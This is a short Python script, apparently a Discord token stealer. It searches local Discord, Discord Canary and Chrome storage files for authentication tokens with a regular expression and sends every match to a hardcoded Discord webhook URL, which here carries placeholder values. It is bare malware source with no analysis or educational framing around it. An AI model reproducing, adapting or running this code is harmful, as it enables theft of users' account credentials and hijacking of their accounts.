import os
import re
import json
from urllib.request import Request, urlopen

HOOK = "https://discordapp.com/api/webhooks/111/BBBB"
ROAMING = os.getenv("APPDATA")
PATHS = {
    "Discord": ROAMING + "\\Discord",
    "Canary": ROAMING + "\\discordcanary",
    "Chrome": os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Default",
}


def tokens(path):
    path += "\\Local Storage\\leveldb"
    found = []
    for name in os.listdir(path):
        if not name.endswith(".log") and not name.endswith(".ldb"):
            continue
        for line in open(f"{path}\\{name}", errors="ignore").readlines():
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)
    return found


message = ""
for platform, path in PATHS.items():
    if os.path.exists(path):
        message += platform + "\n" + "\n".join(tokens(path))
urlopen(Request(HOOK, data=json.dumps({"content": message}).encode(), headers={"Content-Type": "application/json"}))
